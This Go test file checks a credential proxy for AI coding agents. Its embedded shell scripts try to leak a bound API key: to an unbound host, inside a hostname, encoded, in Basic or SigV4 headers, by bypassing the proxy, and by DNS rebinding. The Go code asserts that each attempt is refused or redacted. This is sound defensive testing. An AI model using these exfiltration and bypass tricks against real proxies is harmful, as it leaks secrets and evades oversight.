package main

import (
	"bytes"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// Attacks on the credential proxy from inside agent mode: `llms agent --http
// API_KEY=K@127.0.0.1:PORT --http-body BODY_KEY=K@…` around a shell script
// that tries each bad input of the proxy with real clients and prints one
// line per attempt, "ATTEMPT name output…", which the test judges: the
// bound server receives the value only where it is bound, the agent sees
// only placeholders and redacted echoes, and the canary is nowhere else.
//
// The attempts, by name:
//
//	curl, python-urllib, node-fetch, git, go-net-http   the real clients to the bound host
//	other-host          the placeholder to another host (plain HTTP): 403
//	in-host             the placeholder in the host part: 403
//	percent-encoded     the placeholder percent-encoded in the URL: 400
//	base64              base64 of the placeholder in a header: passed as it is
//	basic               the placeholder as Basic credentials: swapped inside
//	redirect            a 302 to another host: relayed, not followed, Location redacted
//	chunked-body        a chunked JSON body with the placeholder (--http-body): swapped
//	compressed-body     a gzip body (--http-body): 415
//	huge-header         a 70 KiB header: 431
//	h2-prior-knowledge  HTTP/2 spoken to the proxy: refused
//	proxy-itself        a request to the proxy's own listener: 403 (egress)
//	signed              an AWS SigV4 request carrying the placeholder: 403
//	direct              a client that ignores the proxy variables: refused
//
// and, in a launch without --http (the proxy runs whenever the network is
// restricted):
//
//	env-no-http         the proxy variables are set, no binding
//	allowed-host        a host allowed by --allow-host, through the proxy: reached
//	not-allowed         a host not allowed: 403 naming the egress rule
//	rebinding           an allowed name that resolves to 127.0.0.1: 403
//
// DNS rebinding to other addresses is tested in internal/credproxy, with a
// resolver the test controls.
func TestAgentModeAttacksProxy(t *testing.T) {
	atEachAttackABI(t, func(t *testing.T, abi int) {
		agentModeAttacksProxy(t, abi)
		agentModeProxyWithoutBindings(t, abi)
	})
}

const proxyNoBindingScript = `
plain="$1"; other="$2"; apiport="$3"
attempt() { name=$1; shift; printf 'ATTEMPT %s ' "$name"; "$@" 2>&1 | tr '\n' ' '; echo; }
attempt env-no-http sh -c 'echo "proxy=$HTTPS_PROXY no_proxy=[$NO_PROXY] bindings=${LLMS_HTTP_BINDINGS:-none}"'
attempt allowed-host curl -sS --max-time 10 "$plain/v1/me"
attempt not-allowed curl -sS --max-time 10 "$other/v1/me"
attempt rebinding curl -sS --max-time 10 "http://localhost:$apiport/v1/me"
`

// agentModeProxyWithoutBindings: with the network restricted and no
// --http, the agent still reaches an allowed host through the proxy, and
// nothing else.
func agentModeProxyWithoutBindings(t *testing.T, abi int) {
	ps := newProxyServers(t)
	bin := llmsBin(t)
	root := t.TempDir()
	home, store, work := filepath.Join(root, "home"), filepath.Join(root, "store"), filepath.Join(root, "proj")
	for _, d := range []string{home, work, filepath.Join(root, "tmp")} {
		os.MkdirAll(d, 0o700)
	}
	os.WriteFile(filepath.Join(work, "attack.sh"), []byte(proxyNoBindingScript), 0o600)
	env := []string{"LLM_SECRETS_DIR=" + store, "HOME=" + home, "PATH=" + filepath.Dir(bin) + ":" + os.Getenv("PATH"),
		"TMPDIR=" + filepath.Join(root, "tmp"), "GORACE=atexit_sleep_ms=0", "LLMS_TEST_PROCROOT=" + filepath.Join(root, ".proc")}
	mustRun(t, bin, env, "", "init")
	plain := strings.TrimSuffix(ps.plainURL, "/v1/me")
	// The HTTPS server on 127.0.0.2, spoken to in plain HTTP: the proxy's
	// refusal comes before any connection.
	other := "http://" + strings.TrimPrefix(strings.TrimSuffix(ps.otherURL, "/v1/me"), "https://")
	_, apiPort, _ := strings.Cut(ps.apiHostPort, ":")
	cmd := exec.Command(bin, "agent", "--agent", "claude-code", "--landlock-abi", strconv.Itoa(abi),
		"--allow-host", strings.TrimPrefix(plain, "http://"), "--allow-host", "localhost:"+apiPort,
		"--", "sh", "attack.sh", plain, other, apiPort)
	var out, errb bytes.Buffer
	cmd.Env, cmd.Dir, cmd.Stdout, cmd.Stderr = env, work, &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("llms agent: %v\n%s\n%s", err, out.String(), errb.String())
	}
	attempts := proxyAttempts(t, out.String())
	want := map[string]func(string) bool{
		"env-no-http": func(d string) bool {
			return strings.Contains(d, "proxy=http://127.0.0.1:") && strings.Contains(d, "no_proxy=[]") && strings.Contains(d, "bindings=none")
		},
		"allowed-host": func(d string) bool { return strings.Contains(d, "server saw: ") },
		"not-allowed":  refusedWith("egress"),
		"rebinding":    refusedWith("dns-rebinding"),
	}
	for name, ok := range want {
		if d, ran := attempts[name]; !ran || !ok(d) {
			t.Errorf("attempt %s: unexpected outcome %q (ran: %v)", name, d, ran)
		}
	}
	if len(ps.other.seen()) != 0 || len(ps.api.seen()) != 0 {
		t.Errorf("a server the launch does not allow was reached: %q %q", ps.other.seen(), ps.api.seen())
	}
	audit, _ := os.ReadFile(filepath.Join(store, "audit.jsonl"))
	if !strings.Contains(string(audit), `"http-refused"`) || !strings.Contains(string(audit), "refused, to ") {
		t.Errorf("the audit lacks the proxy's refusals or their count in the agent-end line:\n%s", audit)
	}
}

const proxyAttackScript = `
api="$1"; other="$2"; plain="$3"; full="$4"
proxy_port=${HTTPS_PROXY##*:}
attempt() { name=$1; shift; printf 'ATTEMPT %s ' "$name"; "$@" 2>&1 | tr '\n' ' '; echo; }
has() { command -v "$1" >/dev/null 2>&1; }
attempt env sh -c 'echo "key=$API_KEY body=$BODY_KEY bindings=$LLMS_HTTP_BINDINGS"; test -r "$SSL_CERT_FILE" && echo bundle-readable'
attempt curl curl -sS -H "Authorization: Bearer $API_KEY" "$api/v1/me"
attempt other-host curl -sS -H "Authorization: Bearer $API_KEY" "$plain/v1/me"
attempt direct curl -sS --noproxy '*' --max-time 5 -H "Authorization: Bearer $API_KEY" "$api/v1/me"
[ "$full" = 1 ] || exit 0
  has python3 && attempt python-urllib python3 -c '
import os, sys, urllib.request
req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
print(urllib.request.urlopen(req, timeout=10).read().decode())' "$api/v1/me"
  has node && attempt node-fetch node -e '
fetch(process.argv[1], {headers: {Authorization: "Bearer " + process.env.API_KEY}})
  .then(async r => console.log(r.status, await r.text())).catch(e => console.log("error", e.cause ? e.cause.code : e.message))' "$api/v1/me"
  has git && attempt git sh -c 'git -c http.extraHeader="X-Auth: Bearer $API_KEY" ls-remote "$0/repo.git"; echo "git-exit=$?"' "$api"
  attempt go-net-http ` + goClientName + ` "$api/v1/me"
attempt in-host curl -sS "http://$API_KEY.example.com/"
enc=$(printf %s "$API_KEY" | sed 's/-/%2D/g')
attempt percent-encoded curl -sS "$api/v1/me?key=$enc"
attempt base64 curl -sS -H "Authorization: Bearer $(printf %s "$API_KEY" | base64 -w0)" "$api/v1/me"
attempt basic curl -sS -u "user:$API_KEY" "$api/v1/me"
attempt redirect curl -sS -o /dev/null -w '%{http_code} %{redirect_url}' -H "Authorization: Bearer $API_KEY" "$api/redirect"
printf '{"key":"%s"}' "$BODY_KEY" > body.json
attempt chunked-body curl -sS -H "Transfer-Encoding: chunked" -H "Content-Type: application/json" --data-binary @body.json "$api/v1/me"
printf '{"key":"%s"}' "$BODY_KEY" | gzip > body.gz
attempt compressed-body curl -sS -w ' status=%{http_code}' -H "Content-Encoding: gzip" -H "Content-Type: application/json" --data-binary @body.gz "$api/v1/me"
attempt huge-header curl -sS -o /dev/null -w '%{http_code}' -H "X-Big: $(head -c 71680 /dev/zero | tr '\0' a)" "$api/v1/me"
attempt h2-prior-knowledge curl -sS -o /dev/null -w '%{http_code}' --noproxy '*' --http2-prior-knowledge -H "Authorization: Bearer $API_KEY" "http://127.0.0.1:$proxy_port/v1/me"
attempt proxy-itself curl -sS -w ' status=%{http_code}' "http://127.0.0.1:$proxy_port/"
attempt signed curl -sS -H "Authorization: AWS4-HMAC-SHA256 Credential=$API_KEY/20260101/us-east-1/s3/aws4_request, Signature=00" "$api/v1/me"
`

func agentModeAttacksProxy(t *testing.T, abi int) {
	ps := newProxyServers(t)
	bin := llmsBin(t)
	if err := os.Symlink(bin, filepath.Join(filepath.Dir(bin), goClientName)); err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	home, store, work := filepath.Join(root, "home"), filepath.Join(root, "store"), filepath.Join(root, "proj")
	for _, d := range []string{home, work} {
		os.MkdirAll(d, 0o700)
	}
	os.WriteFile(filepath.Join(work, "attack.sh"), []byte(proxyAttackScript), 0o600)
	env := []string{"LLM_SECRETS_DIR=" + store, "HOME=" + home, "PATH=" + filepath.Dir(bin) + ":" + os.Getenv("PATH"),
		"TMPDIR=" + filepath.Join(root, "tmp"), "GORACE=atexit_sleep_ms=0", "LLMS_TEST_PROCROOT=" + filepath.Join(root, ".proc"),
		"SSL_CERT_FILE=" + ps.caFile}
	os.MkdirAll(filepath.Join(root, "tmp"), 0o700)
	canary := "proxy-canary-" + randomHex(12)
	mustRun(t, bin, env, "", "init")
	mustRun(t, bin, env, canary, "set", "--stdin", "K")

	// Every attempt at the kernel's own ABI; at the lower ones, where only
	// the sandbox differs, what it could change: the environment and
	// bundle, a request through the proxy, one refused, one around it.
	full := "0"
	if abi == attackABIs()[0] {
		full = "1"
	}
	api := strings.TrimSuffix(ps.apiURL, "/v1/me")
	args := []string{"agent", "--agent", "claude-code", "--landlock-abi", strconv.Itoa(abi),
		"--http", "API_KEY=K@" + ps.apiHostPort, "--http-body", "BODY_KEY=K@" + ps.apiHostPort,
		"--allow-host", strings.TrimPrefix(strings.TrimSuffix(ps.plainURL, "/v1/me"), "http://"),
		"--", "sh", "attack.sh", api, strings.TrimSuffix(ps.otherURL, "/v1/me"), strings.TrimSuffix(ps.plainURL, "/v1/me"), full}
	cmd := exec.Command(bin, args...)
	var out, errb bytes.Buffer
	cmd.Env, cmd.Dir, cmd.Stdout, cmd.Stderr = env, work, &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("llms agent: %v\n%s\n%s", err, out.String(), errb.String())
	}
	assertNoCanary(t, out.String()+errb.String(), canary)
	audit, _ := os.ReadFile(filepath.Join(store, "audit.jsonl"))
	assertNoCanary(t, string(audit), canary)
	if !strings.Contains(string(audit), `"http-bind"`) || !strings.Contains(string(audit), `"http-refused"`) {
		t.Errorf("the audit lacks the proxy's lines")
	}

	attempts := proxyAttempts(t, out.String())
	want := map[string]func(string) bool{
		"env": func(d string) bool {
			return strings.Contains(d, "key=llms-placeholder-K-") && strings.Contains(d, "bundle-readable") &&
				strings.Contains(d, "API_KEY=K@"+ps.apiHostPort)
		},
		"curl":       redactedEcho,
		"other-host": refusedWith("placeholder-host"),
	}
	full1 := map[string]func(string) bool{
		"in-host":         refusedWith("placeholder-in-host"),
		"percent-encoded": refusedWith("placeholder-encoded"),
		"base64": func(d string) bool {
			return strings.Contains(d, "server saw: Bearer ") && !strings.Contains(d, "REDACTED")
		},
		// The base64 characters at a value's edges also carry bits of
		// its neighbours, and stay (internal/redact).
		"basic": func(d string) bool {
			return strings.Contains(d, "server saw: Basic ") && strings.Contains(d, "[REDACTED:K]")
		},
		"redirect":           func(d string) bool { return strings.HasPrefix(d, "302 ") && strings.Contains(d, "REDACTED") },
		"chunked-body":       func(d string) bool { return strings.Contains(d, `body: {"key":"[REDACTED:K]"}`) },
		"compressed-body":    func(d string) bool { return strings.Contains(d, "status=415") },
		"huge-header":        func(d string) bool { return strings.TrimSpace(d) == "431" },
		"h2-prior-knowledge": func(d string) bool { d = strings.TrimSpace(d); return d != "200" && !strings.Contains(d, "server saw") },
		// Not on the allow-list; were it allowed, the loop rule refuses.
		"proxy-itself": refusedWith("egress"),
		"signed":       refusedWith("signed-request"),
	}
	if full == "1" {
		for k, v := range full1 {
			want[k] = v
		}
		want["python-urllib"], want["go-net-http"] = redactedEcho, redactedEcho
		if _, err := exec.LookPath("git"); err == nil {
			want["git"] = func(d string) bool { return strings.Contains(d, "git-exit=") }
		}
		if _, err := exec.LookPath("node"); err == nil {
			want["node-fetch"] = func(d string) bool {
				// A Node without NODE_USE_ENV_PROXY connects itself,
				// and the supervisor refuses the connect: closed.
				return redactedEcho(d) || strings.HasPrefix(d, "error EACCES")
			}
		}
	}
	for name, ok := range want {
		d, ran := attempts[name]
		if !ran {
			t.Errorf("attempt %s did not run", name)
		} else if !ok(d) {
			t.Errorf("attempt %s: unexpected outcome %q", name, d)
		}
	}
	// A client that ignores the proxy variables would reach the server
	// itself with the placeholder: the supervisor refuses the connect
	// (a --http host is reached through the proxy only).
	if direct := attempts["direct"]; strings.Contains(direct, "server saw") || !strings.Contains(direct, "curl: (7)") {
		t.Errorf("a client ignoring the proxy was not refused: %q", direct)
	}

	// The bound server got the value only through the proxy; the others
	// never saw it.
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+canary)) + "|"
	gotBasic, gotBody := false, false
	for _, seen := range ps.api.seen() {
		gotBasic = gotBasic || seen == basic
		gotBody = gotBody || strings.HasSuffix(seen, `|{"key":"`+canary+`"}`)
	}
	if full == "1" && (!gotBasic || !gotBody) {
		t.Errorf("the bound server did not get the value inside Basic credentials (%v) or the body (%v)", gotBasic, gotBody)
	}
	gotValue := false
	for _, seen := range ps.api.seen() {
		gotValue = gotValue || strings.Contains(seen, canary)
	}
	if !gotValue {
		t.Error("the bound server never received the value")
	}
	for _, r := range []*recorder{ps.other, ps.plain} {
		for _, seen := range r.seen() {
			if strings.Contains(seen, canary) {
				t.Errorf("an unbound server received the value: %q", seen)
			}
		}
	}
}

// TestAgentHTTPWithTheSameSecretInTheToken: a secret both bound with --http
// and allowed by the agent's token could be injected into a program of the
// agent's, and the launch says so.
func TestAgentHTTPWithTheSameSecretInTheToken(t *testing.T) {
	needLandlock(t)
	bin := llmsBin(t)
	root := t.TempDir()
	env := append(llmsEnv(filepath.Join(root, "store")), "TMPDIR="+root)
	mustRun(t, bin, env, "", "init")
	mustRun(t, bin, env, "value-"+randomHex(8), "set", "--stdin", "K")
	mustRun(t, bin, env, "", "session-start", "--ttl", "1h")
	_, errs, code := run(t, bin, env, "", "agent", "--agent", "claude-code", "--secret", "K", "--ttl", "5m",
		"--http", "API_KEY=K@api.example.com", "--", "true")
	if code != 0 || !strings.Contains(errs, "the agent's token allows K too") {
		t.Errorf("exit %d, stderr %q", code, errs)
	}
	// The same from a profile's http key.
	os.MkdirAll(filepath.Join(root, ".config", "llm-secrets"), 0o700)
	os.WriteFile(filepath.Join(root, ".config", "llm-secrets", "profiles.toml"),
		[]byte("[p]\nsecrets = [\"K\"]\nttl = \"5m\"\nhttp = [\"API_KEY=K@api.example.com\"]\n"), 0o600)
	_, errs, code = run(t, bin, env, "", "agent", "--agent", "claude-code", "--profile", "p", "--", "true")
	if code != 0 || !strings.Contains(errs, "the agent's token allows K too") {
		t.Errorf("--profile: exit %d, stderr %q", code, errs)
	}
}

// proxyAttempts reads the script's "ATTEMPT name detail" lines.
func proxyAttempts(t *testing.T, out string) map[string]string {
	attempts := map[string]string{}
	for _, line := range strings.Split(out, "\n") {
		if rest, ok := strings.CutPrefix(line, "ATTEMPT "); ok {
			name, detail, _ := strings.Cut(rest, " ")
			attempts[name] = detail
			t.Logf("ATTEMPT %s → %s", name, detail)
		}
	}
	return attempts
}

func redactedEcho(d string) bool { return strings.Contains(d, "server saw: Bearer [REDACTED:K]") }

func refusedWith(rule string) func(string) bool {
	return func(d string) bool { return strings.Contains(d, "refused this request (rule "+rule+")") }
}
